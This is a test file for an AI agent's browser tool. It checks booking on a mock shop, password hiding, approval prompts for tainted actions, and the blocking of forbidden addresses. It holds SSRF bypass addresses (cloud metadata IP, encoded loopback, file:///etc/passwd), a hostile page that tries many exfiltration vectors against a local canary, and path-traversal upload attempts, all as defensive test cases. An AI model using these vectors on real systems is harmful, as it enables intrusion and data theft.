"""The browser: a table is booked through snapshots and refs, and nothing is reached or sent that must not be."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from typing import Any

import pytest
import pytest_asyncio

from hub.core.errors import Forbidden
from hub.tools.approval import ApprovalDecision, ApprovalState, Ask
from hub.tools.contract import ToolResult
from tests.integrations.tools.browser.conftest import EVERY_KIND, Browsing, ref
from tests.integrations.tools.browser.shop import BOOK, START
from tests.integrations.tools.standing import ANNAS, MAIN

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 20
PLACES = (
    "http://127.0.0.1:{canary}/",
    "http://localhost:{canary}/",
    "http://LOCALHOST.:{canary}/",
    "http://[::1]:{canary}/",
    "http://[::ffff:127.0.0.1]:{canary}/",
    "http://[::ffff:7f00:1]:{canary}/",
    "http://2130706433:{canary}/",
    "http://0x7f000001:{canary}/",
    "http://0177.0.0.1:{canary}/",
    "http://127.1:{canary}/",
    "http://0.0.0.0:{canary}/",
    "http://169.254.169.254/latest/meta-data/",
    "http://user@127.0.0.1:{canary}/",
    "https://8.8.8.8/",
    "file:///etc/passwd",
    "FILE://localhost/etc/passwd",
    "chrome://settings/",
    "view-source:http://127.0.0.1:{canary}/",
    "javascript:alert(1)",
    "data:text/html,x",
    "ftp://127.0.0.1:{canary}/",
    "about:blank",
)


@pytest_asyncio.fixture(loop_scope="session")
async def shop(browsing: Browsing) -> AsyncIterator[Browsing]:
    """The shop as it is at first, and nothing reached but it."""
    browsing.shop.pages = {"/": START, "/book": BOOK}
    browsing.shop.redirects = {}
    browsing.standing.tools.ask = None
    yield browsing
    browsing.used = "lan"
    assert browsing.canary.reached == 0


@EVERY_KIND
@pytest.mark.parametrize("profile", ["lan", "boxed"])
async def test_a_table_is_booked_through_snapshots_and_refs(shop: Browsing, profile: str) -> None:
    shop.used = profile
    shop.shop.booked.clear()
    (shop.standing.workspace / "us.png").write_bytes(PNG)

    start = await shop.visit()
    await shop.act({"kind": "click", "ref": ref(start, 'link "Table 4"')})
    form = (await shop.use("snapshot", refs="role")).output
    booked = await shop.act(
        {"kind": "fill", "ref": ref(form, 'textbox "Name"'), "text": "Ada"},
        {"kind": "select", "ref": ref(form, "combobox"), "values": ["3"]},
        {"kind": "upload", "ref": ref(form, 'button "Picture"'), "paths": ["us.png"]},
        {"kind": "click", "ref": ref(form, 'button "Book now"')},
        {"kind": "wait", "url": "**/book", "state": "load", "text": "3 guests"},
    )
    done = (await shop.use("snapshot")).output
    clicked = await shop.act({"kind": "click", "ref": ref(done, 'link "Confirmation"')})
    told = await until_told(shop, "downloaded", clicked.output)
    path = told.partition(" to ")[2].partition("]")[0]
    read = await shop.standing.call("read", {"path": path})

    assert ref(form, 'textbox "Name"').startswith("e")
    assert not booked.is_error, booked.output
    assert "Booked" in booked.output
    assert shop.shop.booked == [{"name": "Ada", "guests": "3", "file": "us.png", "data": PNG}]
    assert "Ada, 3 guests, picture of 28 bytes" in done
    assert path.startswith("media/")
    assert path.endswith(".pdf")
    assert "evil" not in path
    assert "Table 4 is yours" in read.output
    assert not read.trusted


async def until_told(shop: Browsing, what: str, shown: str = "") -> str:
    """Return what the tab shows once these words are in it."""
    async with asyncio.timeout(30):
        while what not in shown:
            await asyncio.sleep(0.02)
            shown = (await shop.use("snapshot")).output
        return shown


async def test_an_address_that_is_a_file_is_downloaded(shop: Browsing) -> None:
    opened = await shop.use("navigate", url=f"{shop.shop.url}/confirmation.pdf")

    assert not opened.is_error, opened.output
    assert "downloaded" in await until_told(shop, "downloaded", opened.output)


async def test_what_a_page_says_is_untrusted(shop: Browsing) -> None:
    await shop.visit()
    for action in ("snapshot", "screenshot", "tabs", "console", "requests", "cookies"):
        result = await shop.use(action)
        assert not result.trusted, action

    failed = await shop.act({"kind": "click", "ref": "999999"})
    missed = await shop.act({"kind": "wait", "text": "never there", "timeout_ms": 1})

    assert failed.is_error
    assert missed.is_error
    assert not missed.trusted


async def test_refs_end_with_their_page(shop: Browsing) -> None:
    start = await shop.visit()
    again = (await shop.use("snapshot")).output
    form = await shop.visit("/book")

    old = await shop.act({"kind": "click", "ref": ref(start, 'link "Table 4"')})

    assert ref(start, 'link "Table 4"') == ref(again, 'link "Table 4"')
    assert ref(start, 'link "Table 4"') not in {ref(form, what) for what in ("textbox", "combobox", "Picture")}
    assert "refs end with their page: take a new snapshot" in old.output


async def test_what_a_person_typed_as_a_password_is_not_shown(shop: Browsing) -> None:
    field = '<input aria-label={} type={} value="hunter2: x">'
    inner = field.format("Inner", "password").replace('"', "&quot;")
    shop.shop.pages["/in"] = (
        f"{field.format('Login', 'text')}{field.format('Key', 'password')}<iframe srcdoc='{inner}'>"
    )

    await shop.visit("/in")
    for form in ({}, {"refs": "role"}, {"interactive": True}):
        seen = (await shop.use("snapshot", **form)).output
        assert seen.count("hunter2") == 1, seen
        assert seen.count("[hidden]") == 2


async def test_a_snapshot_can_be_short(shop: Browsing) -> None:
    whole = await shop.visit()
    short = (await shop.use("snapshot", interactive=True)).output
    compact = (await shop.use("snapshot", compact=True)).output
    shallow = (await shop.use("snapshot", depth=2)).output
    bounded = (await shop.use("snapshot", max_chars=100)).output

    assert f'- link "Table 4" [ref={ref(whole, "Table 4")}] /book?table=4' in short
    assert "Open until ten" not in short
    assert "Open until ten" in compact
    assert len(compact) < len(whole)
    assert "Table 4" not in shallow
    assert "[cut: 100 of" in bounded


async def test_labels_console_dialogs_pdf_and_the_window(shop: Browsing) -> None:
    page = await shop.visit()
    await shop.act({"kind": "click", "ref": ref(page, 'button "Log"')})
    dismissed = await shop.act({"kind": "click", "ref": ref(page, 'button "Ask"')})
    await shop.use("dialog", accept=True)
    accepted = await shop.act({"kind": "click", "ref": ref(page, 'button "Ask"')})
    plain, labelled = await shop.use("screenshot"), await shop.use("screenshot", labels=True)
    kept = await shop.use("pdf")
    path = kept.output.partition("the page is in ")[2].split("\n")[0]
    await shop.use("emulate", width=500, height=400, color_scheme="dark")
    narrow = await shop.use("screenshot")
    await shop.use("emulate", device="iPhone 15", locale="de-DE", time_zone="Asia/Tokyo")
    seen = "[devicePixelRatio, navigator.maxTouchPoints > 0, /iPhone/.test(navigator.userAgent), "
    seen += "(1.5).toLocaleString(), Intl.DateTimeFormat().resolvedOptions().timeZone].join()"
    elsewhere = await shop.profile("lan").tab(MAIN, None).page.evaluate(seen)
    wrong = [await shop.use("emulate", device="iPhon 15"), await shop.use("emulate", time_zone="Mars/Base")]
    await shop.use("emulate", device="Desktop Chrome", locale="en-US", time_zone="UTC")
    await shop.use("emulate", width=1280, height=800)

    assert elsewhere == "3,true,true,1,5,Asia/Tokyo"
    assert [each.is_error for each in wrong] == [True, True]
    assert "iPhone 15" in wrong[0].output
    assert "log: hello from the page" in (await shop.use("console", text="hello")).output
    assert "'Sure?' and was dismissed" in dismissed.output
    assert "'Sure?' and was accepted" in accepted.output
    assert "'yes'" in accepted.output
    assert plain.media[0].data != labelled.media[0].data
    assert plain.media[0].data != narrow.media[0].data
    assert "GET 200 document" in (await shop.use("requests")).output
    assert (shop.standing.workspace / path).read_bytes().startswith(b"%PDF")


@pytest.mark.parametrize("place", PLACES)
async def test_no_forbidden_address_is_opened(shop: Browsing, place: str) -> None:
    result = await shop.use("navigate", url=place.format(canary=shop.canary.port))

    assert result.is_error, result.output


async def test_an_address_that_is_refused_leaves_no_tab(shop: Browsing) -> None:
    await shop.visit()
    before = (await shop.use("tabs")).output

    for _ in range(2):
        assert (await shop.use("open", url="http://127.0.0.1:1/")).is_error
        with pytest.raises(Forbidden):
            await shop.operate("open", url="http://127.0.0.1:1/")

    tabs = (await shop.use("tabs")).output.splitlines()
    assert len(tabs) <= len(before.splitlines()) + 1, "the empty tab is used again"
    assert "Closed on Mondays" in (await shop.use("snapshot")).output


@EVERY_KIND
async def test_no_forbidden_address_is_reached_from_a_page(shop: Browsing) -> None:
    place = f"127.0.0.1:{shop.canary.port}"
    canary = f"http://{place}"
    shop.shop.redirects = {"/away": f"{canary}/redirected", "/away.js": f"{canary}/redirected.js"}
    worker = f"fetch('{canary}/w').catch(() => 0); try {{ new WebSocket('ws://{place}/w') }} catch {{}}"
    shop.shop.pages |= {
        "/worker.js": f"{worker}; importScripts('{canary}/import.js')",
        "/service.js": f"self.addEventListener('install', e => e.waitUntil(fetch('{canary}/sw').catch(() => 0)));",
        "/hostile": f"""<title>Hostile</title><link rel=dns-prefetch href="{canary}">
            <link rel=preconnect href="{canary}">
            <link rel=prefetch href="{canary}/prefetch"><img src="{canary}/img"><img src="/away">
            <iframe src="{canary}/frame"></iframe><iframe src="/away"></iframe><script src="/away.js"></script>
            <video src="{canary}/video"></video><object data="{canary}/object"></object>
            <form id=f action="{canary}/form" target=named method=post></form><iframe name=named></iframe>
            <a id=d href="{canary}/download" target=named download>d</a>
            <a id=p href="/" ping="{canary}/ping" target=other>p</a>
            <script type=speculationrules>{{"prerender": [{{"urls": ["{canary}/prerender"]}}]}}</script>
            <script>
            {worker}
            const done = [];
            const end = (promise) => done.push(Promise.resolve(promise).catch(() => 0));
            for (const host of ["localhost", "[::1]", "[::ffff:127.0.0.1]", "2130706433", "127.1"])
              end(fetch("http://" + host + ":{shop.canary.port}/", {{mode: "no-cors"}}));
            end(fetch("/away"));
            navigator.sendBeacon("{canary}/beacon", "x");
            try {{ new EventSource("{canary}/events") }} catch {{}}
            try {{ new Worker("/worker.js"); new SharedWorker("/worker.js") }} catch {{}}
            end(navigator.serviceWorker.register("/service.js"));
            if (self.WebTransport) end(new WebTransport("https://{place}/").ready);
            const rtc = new RTCPeerConnection({{iceServers: [
              {{urls: "stun:{place}"}},
              {{urls: ["turn:{place}", "turn:{place}?transport=tcp"], username: "u", credential: "c"}}]}});
            rtc.createDataChannel("x");
            end(rtc.createOffer().then((offer) => rtc.setLocalDescription(offer)));
            end(new Promise((resolve) => {{
              rtc.onicegatheringstatechange = () => rtc.iceGatheringState === "complete" && resolve();
              setTimeout(resolve, 1500);
            }}));
            f.submit(); d.click(); p.click(); window.open("{canary}/popup");
            Promise.all(done).then(() => document.title = "finished");
            </script>""",
    }

    await shop.visit("/hostile")
    await until_told(shop, "'finished'")
    moved = [
        await shop.use("navigate", url=f"{shop.shop.url}/away"),
        await leave(shop, f"<meta http-equiv=refresh content='0;url={canary}/meta'>"),
        await leave(shop, f"<script>location = '{canary}/script'</script>"),
        await leave(shop, "<script>location = 'file:///etc/passwd'</script>"),
        await leave(shop, "<script>location = 'chrome://version'</script>"),
    ]

    assert moved[0].is_error
    assert "allow_private" in moved[0].output
    assert not any("root:" in each.output for each in moved)


async def leave(shop: Browsing, page: str) -> ToolResult:
    """Open a page that goes elsewhere by itself; return what is seen there."""
    shop.shop.pages["/leaves"] = page
    await shop.use("navigate", url=f"{shop.shop.url}/leaves")
    await shop.act({"kind": "wait", "state": "networkidle"})
    return await shop.use("snapshot")


class Owner:
    """Answers what is asked, and keeps the questions."""

    def __init__(self, *, says: bool) -> None:
        self.says = says
        self.asked: list[Ask] = []

    async def __call__(self, ask: Ask) -> ApprovalDecision:
        self.asked.append(ask)
        return ApprovalDecision(self.says, ApprovalState.APPROVED if self.says else ApprovalState.DENIED, "me", "")


async def test_with_outside_words_what_can_carry_data_out_asks_and_shows_what_and_where(shop: Browsing) -> None:
    tainted: Any = {"authority": shop.standing.owner.narrow(tainted=True), "run": "asks"}
    form = await shop.visit("/book")
    owner = shop.standing.tools.ask = Owner(says=False)
    name = ref(form, 'textbox "Name"')
    attempts = [
        await shop.use("navigate", url=f"{shop.shop.url}/?secret=1234", **tainted),
        await shop.use("open", url="https://elsewhere.example/?secret=1234", **tainted),
        await shop.act({"kind": "fill", "ref": name, "text": "1234"}, **tainted),
        await shop.act({"kind": "type", "text": "1234"}, **tainted),
        await shop.act({"kind": "press", "key": "Enter"}, **tainted),
        await shop.act({"kind": "upload", "ref": name, "paths": ["us.png"]}, **tainted),
        await shop.act({"kind": "click", "ref": ref(form, "Book now")}, **tainted),
        await shop.act({"kind": "evaluate", "fn": "1"}),
        await shop.act({"kind": "wait", "fn": "1"}),
        await shop.use("cookies", clear=True, **tainted),
    ]
    start = await shop.visit()
    table = ref(start, 'link "Table 4"')
    attempts += [
        await shop.act({"kind": "click", "ref": ref(start, 'link "Elsewhere"')}, **tainted),
        await shop.act({"kind": "click", "ref": table}, **tainted),
        await shop.act({"kind": "hover", "ref": table}, **tainted),
        await shop.act({"kind": "press", "key": "PageDown"}, **tainted),
        await shop.act({"kind": "scroll", "ref": table}, **tainted),
        await shop.use("emulate", width=1234, height=400, **tainted),
        await shop.use("navigate", url=f"{shop.shop.url}/#4821", **tainted),
        await shop.use("navigate", url=f"{shop.shop.url}/", session="agent:main:other", **tainted),
    ]

    assert [each.is_error for each in attempts] == [True] * len(attempts)
    assert len(owner.asked) == len(attempts), [each.output for each in attempts]
    shown = owner.asked[2].details["diff"]
    assert f"on {shop.shop.url}/book" in shown
    assert 'fill textbox "Name" text: 1234' in shown
    assert "secret=1234" in owner.asked[0].text

    owner.asked.clear()
    unasked = [
        await shop.use("snapshot", **tainted),
        await shop.use("navigate", url=f"{shop.shop.url}/", **tainted),
        await shop.act({"kind": "wait", "state": "load"}, **tainted),
    ]
    assert [each.is_error for each in unasked] == [False] * 3
    assert owner.asked == []


async def test_a_yes_lets_links_of_that_host_be_followed_in_that_run(shop: Browsing) -> None:
    tainted: Any = {"authority": shop.standing.owner.narrow(tainted=True)}
    owner = shop.standing.tools.ask = Owner(says=True)

    async def follow(run: str, **step: Any) -> bool:
        """Return whether it was asked."""
        page = await shop.visit()
        owner.asked.clear()
        step |= {} if "key" in step else {"ref": ref(page, step.pop("named"))}
        done = await shop.act(step, run=run, **tainted)
        assert not done.is_error, done.output
        return len(owner.asked) == 1

    assert await follow("r1", kind="click", named='link "Table 4"')
    assert not await follow("r1", kind="click", named='link "Table 4"')
    assert not await follow("r1", kind="press", key="PageDown")
    assert await follow("r1", kind="click", named='button "Log"')
    assert await follow("r2", kind="hover", named='link "Table 4"')


FRAME = """<iframe src="data:text/html,<a href='{shop}/book?b=1'>Go</a>"></iframe>"""
ELSEWHERE = "https://elsewhere.example/"


@pytest.mark.parametrize(
    ("asks", "page", "step"),
    [
        (False, "<a href='/book'>Go</a>", {"kind": "click"}),
        (False, "<a href='book?b=1'>Go</a>", {"kind": "click"}),
        (True, "<a href='/\\elsewhere.example/p'>Go</a>", {"kind": "click"}),
        (True, "<a href='/\t/elsewhere.example/p'>Go</a>", {"kind": "click"}),
        (True, f"<base href='{ELSEWHERE}'><a href='/p'>Go</a>", {"kind": "click"}),
        (True, f"<a href='/book' ping='{ELSEWHERE}p'>Go</a>", {"kind": "click"}),
        (True, "<div role=link>Go</div>", {"kind": "click"}),
        (True, FRAME, {"kind": "click"}),
        (True, FRAME, {"kind": "hover"}),
        (True, FRAME, {"kind": "scroll"}),
        (True, FRAME, {"kind": "press", "key": "PageDown"}),
        (True, FRAME, {"kind": "press", "key": "PageDown", "ref": None}),
        (True, FRAME, {"kind": "scroll", "ref": None}),
        (False, "<iframe srcdoc=Words></iframe><p>Go</p>", {"kind": "scroll", "ref": None}),
    ],
)
async def test_a_yes_for_a_host_reaches_no_other_one(
    shop: Browsing, asks: bool, page: str, step: dict[str, Any]
) -> None:
    tainted: Any = {"authority": shop.standing.owner.narrow(tainted=True), "run": f"only here {page} {step}"}
    owner = shop.standing.tools.ask = Owner(says=True)
    await shop.act({"kind": "hover", "ref": ref(await shop.visit(), 'link "Table 4"')}, **tainted)
    shop.shop.pages["/page"] = page.replace("{shop}", shop.shop.url)
    shown = await shop.visit("/page")
    step = {"ref": ref(shown, "Go"), **step}
    owner.asked.clear()
    owner.says = False
    done = await shop.act({key: value for key, value in step.items() if value is not None}, **tainted)

    assert len(owner.asked) == done.is_error == asks, done.output


async def test_what_was_approved_is_not_done_on_another_page(shop: Browsing) -> None:
    form = await shop.visit("/book")

    async def yes_after_a_move(ask: Ask) -> ApprovalDecision:
        shop.standing.tools.ask = None
        await shop.use("navigate", url=f"{shop.shop.url}/")
        return ApprovalDecision(True, ApprovalState.APPROVED, "me", "")

    shop.standing.tools.ask = yes_after_a_move
    step = {"kind": "fill", "ref": ref(form, 'textbox "Name"'), "text": "Ada"}
    moved = await shop.act(step, authority=shop.standing.owner.narrow(tainted=True))
    shop.standing.tools.ask = Owner(says=True)
    form = await shop.visit("/book")
    step["ref"] = ref(form, 'textbox "Name"')
    done = await shop.act(step, authority=shop.standing.owner.narrow(tainted=True))

    assert "the call or the rules have changed since" in moved.output
    assert not done.is_error
    assert 'textbox "Name"' in (await shop.use("snapshot")).output


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        ({"action": "act"}, "steps is missing"),
        ({"action": "navigate"}, "give url"),
        ({"action": "act", "steps": [{"kind": "click"}]}, "click needs ref"),
        ({"action": "act", "steps": [{"kind": "type"}]}, "type needs text"),
        ({"action": "act", "steps": [{"kind": "wait"}]}, "wait needs"),
        ({"action": "act", "steps": [{"kind": "click", "ref": "button"}]}, "expected one from a snapshot"),
        ({"action": "snapshot", "tab": "t999"}, "there is no tab t999"),
        ({"action": "emulate", "width": 500}, "width and height together"),
        (
            {"action": "snapshot", "profile": "work"},
            "there is no browser profile 'work'; there are: default, chrome, lan",
        ),
        ({"action": "dance"}, "action"),
    ],
)
async def test_a_wrong_call_says_what_was_expected(shop: Browsing, arguments: dict[str, Any], words: str) -> None:
    await shop.visit()

    result = await shop.standing.call("browser", {"profile": "lan", **arguments})

    assert result.is_error
    assert words in result.output


async def test_only_files_that_the_conversation_sees_are_uploaded(shop: Browsing) -> None:
    form = await shop.visit("/book")
    picture = ref(form, 'button "Picture"')

    for path in ("/etc/passwd", "../configuration.yaml", "MEMORY.md", "media/x"):
        result = await shop.act({"kind": "upload", "ref": picture, "paths": [path]}, session=ANNAS, tab="t1")
        assert result.is_error, path


async def test_only_the_owner_uses_the_browser(shop: Browsing) -> None:
    result = await shop.use("tabs", authority=shop.standing.anna, session=ANNAS)

    assert "for the owner of this home only" in result.output
